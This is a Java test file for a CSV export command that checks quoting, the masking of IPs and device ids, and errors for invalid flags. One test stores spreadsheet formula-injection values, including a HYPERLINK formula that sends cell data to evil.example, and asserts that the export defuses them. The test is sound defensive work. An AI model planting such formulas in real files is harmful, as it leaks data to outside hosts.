package dev.drainboard.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.drainboard.app.CsvExport;
import dev.drainboard.config.AppConfig;
import dev.drainboard.support.Db;
import dev.drainboard.support.TestServers;
import java.io.IOException;
import java.io.Reader;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code drainboard export}: what it writes parses back, as CSV, into exactly the rows the filter selects. */
class ExportCliTest {

    @Test
    void exportedRowsRoundTripThroughACsvParser(@TempDir Path tmp) throws Exception {
        AppConfig c = TestServers.config();
        String url = c.jdbcUrl().orElseThrow();
        List<String> common = List.of("--sqs-endpoint=" + c.sqsEndpoint().orElseThrow(), "--queue=" + c.queue(),
                "--jdbc-url=" + url, "--data-dir=" + c.dataDir(), "--wait-seconds=0");
        assertThat(CliTest.run(with("seed", common)).code()).isZero();
        assertThat(CliTest.run(with("drain", common)).code()).isZero();
        // A comma and a quote in a stored value, to prove the quoting.
        Db.execute(url, "UPDATE user_logins SET locale = 'P\"H, x' WHERE ctid = (SELECT min(ctid) FROM user_logins "
                + "WHERE device_type = 'ios')");

        Path file = tmp.resolve("ios.csv");
        CliTest.Run r = CliTest.run(with("export", common, "--filter", "device_type=ios", "--format", "csv",
                "--output", file.toString()));
        assertThat(r.code()).as(r.err()).isZero();
        assertThat(r.err()).contains("Wrote ").contains("device type = ios");

        List<CSVRecord> records;
        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(in).getRecords();
        }
        List<List<String>> got = new ArrayList<>();
        for (CSVRecord rec : records) {
            List<String> row = new ArrayList<>();
            CsvExport.ROW_HEADER.forEach(h -> row.add(rec.get(h)));
            got.add(row);
        }
        assertThat(got).containsExactlyElementsOf(sql(url, "SELECT user_id, device_type, masked_ip, masked_device_id, "
                + "coalesce(locale, ''), app_version, create_date::text FROM user_logins WHERE device_type = 'ios' "
                + "ORDER BY create_date DESC, user_id DESC, ctid DESC"));
        assertThat(got).anySatisfy(row -> assertThat(row.get(4)).isEqualTo("P\"H, x"));
        String text = Files.readString(file);
        assertThat(text).startsWith(String.join(",", CsvExport.ROW_HEADER) + "\r\n").contains("\"P\"\"H, x\"");
        for (String raw : rawValues()) {
            assertThat(text).doesNotContain(raw);
        }

        // two device ids shared for certain (the sample may have none), so that --limit 1 has something to cut
        Db.execute(url, "INSERT INTO user_logins (user_id, device_type, masked_ip, masked_device_id, locale, "
                + "app_version, create_date) SELECT u, 'ios', 'v1:ip-' || u, d, 'PH', '2.3.0', DATE '2026-11-01' "
                + "FROM (VALUES ('x1', 'v1:dev-x'), ('x2', 'v1:dev-x'), ('x3', 'v1:dev-x'), ('x1', 'v1:dev-y'), "
                + "('x2', 'v1:dev-y')) v(u, d)");
        CliTest.Run shared = CliTest.run(with("export", common, "--shared", "devices"));
        assertThat(shared.code()).as(shared.err()).isZero();
        List<CSVRecord> masks = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(shared.out())).getRecords();
        assertThat(masks.stream().map(m -> m.get("mask")).toList()).containsExactlyInAnyOrderElementsOf(sql(url,
                "SELECT masked_device_id FROM user_logins GROUP BY 1 HAVING count(DISTINCT user_id) >= 2").stream()
                .map(l -> l.get(0)).toList());

        CliTest.Run one = CliTest.run(with("export", common, "--shared", "devices", "--limit", "1"));
        assertThat(one.code()).as(one.err()).isZero();
        assertThat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(one.out())).getRecords()).extracting(m -> m.get("mask"))
                .containsExactly(masks.get(0).get("mask")).hasSizeLessThan(masks.size());
    }

    /** Flags that point at servers nobody listens on: a usage error must be reported before they are tried. */
    private static List<String> nowhere(Path tmp) {
        return List.of("--sqs-endpoint=http://127.0.0.1:1", "--jdbc-url=jdbc:postgresql://127.0.0.1:1/none",
                "--data-dir=" + tmp);
    }

    @Test
    void aLimitBelowOneIsAUsageErrorAtParsingWithExitCode2(@TempDir Path tmp) {
        for (String bad : new String[] {"-5", "0"}) {
            CliTest.Run r = CliTest.run(with("export", nowhere(tmp), "--shared", "devices", "--limit", bad));
            assertThat(r.code()).as(r.err()).isEqualTo(2);
            assertThat(r.err()).contains("--limit is the most shared masks to write: give a whole number of 1 or more "
                    + "(e.g. --limit 1000), not " + bad).contains("Usage: drainboard export")
                    .doesNotContain("reachable").doesNotContain("Could not");
        }
    }

    @Test
    void aFilterTogetherWithSharedIsRefusedInsteadOfIgnored(@TempDir Path tmp) {
        CliTest.Run r = CliTest.run(with("export", nowhere(tmp), "--shared", "ips", "--filter", "device_type=ios"));
        assertThat(r.code()).as(r.err()).isEqualTo(2);
        assertThat(r.err()).contains("--filter cannot be combined with --shared: the shared lists count the user ids "
                + "of the whole table. Give --shared without --filter, or --filter without --shared for the matching "
                + "rows.").doesNotContain("reachable");
        assertThat(r.out()).isEmpty();
    }

    @Test
    void aBadFilterTermIsRefusedWithExitCode2() {
        AppConfig c = TestServers.config();
        CliTest.Run r = CliTest.run("export", "--sqs-endpoint=" + c.sqsEndpoint().orElseThrow(), "--queue=" + c.queue(),
                "--jdbc-url=" + c.jdbcUrl().orElseThrow(), "--data-dir=" + c.dataDir(), "--filter", "colour=red");
        assertThat(r.code()).isEqualTo(2);
        assertThat(r.err()).contains("'colour=red' is not a filter term");
    }

    @Test
    void cellsThatASpreadsheetWouldRunAsAFormulaAreWrittenDefused(@TempDir Path tmp) throws Exception {
        AppConfig c = TestServers.config();
        String url = c.jdbcUrl().orElseThrow();
        List<String> common = List.of("--sqs-endpoint=" + c.sqsEndpoint().orElseThrow(), "--queue=" + c.queue(),
                "--jdbc-url=" + url, "--data-dir=" + c.dataDir(), "--wait-seconds=0");
        assertThat(CliTest.run(with("schema", common)).code()).isZero();
        String link = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
        Db.execute(url, "INSERT INTO user_logins (user_id, device_type, masked_ip, masked_device_id, locale, "
                + "app_version, create_date) VALUES "
                + "('" + link.replace("'", "''") + "', 'ios', 'v1:ip-1', 'v1:dev-1', 'PH', '2.3.0', DATE '2026-11-05'), "
                + "('u2', '@SUM(1+1)', 'v1:ip-2', 'v2:dev-2', '+1', '-2.3', DATE '2026-11-04'), "
                + "(E'\\tu3', 'android', 'v1:ip-3', 'v1:dev-3', E'\\rPH', '2.3.0', DATE '2026-11-03'), "
                + "('u4-=x', 'web', 'v1:ip-4', 'v1:dev-4', 'en-US', '1.0.0', DATE '2026-11-02')");

        Path file = tmp.resolve("all.csv");
        CliTest.Run r = CliTest.run(with("export", common, "--output", file.toString()));
        assertThat(r.code()).as(r.err()).isZero();

        List<List<String>> got = new ArrayList<>();
        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            for (CSVRecord rec : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(in)) {
                List<String> row = new ArrayList<>();
                CsvExport.ROW_HEADER.forEach(h -> row.add(rec.get(h)));
                got.add(row);
            }
        }
        assertThat(got).containsExactly(
                List.of("'" + link, "ios", "v1:ip-1", "v1:dev-1", "PH", "2.3.0", "2026-11-05"),
                List.of("u2", "'@SUM(1+1)", "v1:ip-2", "v2:dev-2", "'+1", "'-2.3", "2026-11-04"),
                List.of("'\tu3", "android", "v1:ip-3", "v1:dev-3", "'\rPH", "2.3.0", "2026-11-03"),
                List.of("u4-=x", "web", "v1:ip-4", "v1:dev-4", "en-US", "1.0.0", "2026-11-02"));
    }

    private static String[] with(String command, List<String> common, String... more) {
        List<String> all = new ArrayList<>();
        all.add(command);
        all.addAll(common);
        all.addAll(List.of(more));
        return all.toArray(new String[0]);
    }

    private static List<String> rawValues() throws IOException {
        ObjectMapper json = new ObjectMapper();
        List<String> raw = new ArrayList<>();
        for (String line : Files.readAllLines(Path.of("data/sample_messages.jsonl"))) {
            JsonNode n = json.readTree(line);
            for (String f : new String[] {"ip", "device_id"}) {
                if (n.hasNonNull(f)) {
                    raw.add(n.get(f).asText());
                }
            }
        }
        return raw;
    }

    private static List<List<String>> sql(String url, String q) throws Exception {
        List<List<String>> out = new ArrayList<>();
        try (Connection c = DriverManager.getConnection(url, "postgres", "postgres"); Statement s = c.createStatement();
             ResultSet rs = s.executeQuery(q)) {
            int n = rs.getMetaData().getColumnCount();
            while (rs.next()) {
                List<String> row = new ArrayList<>();
                for (int i = 1; i <= n; i++) {
                    row.add(rs.getString(i));
                }
                out.add(row);
            }
        }
        return out;
    }
}
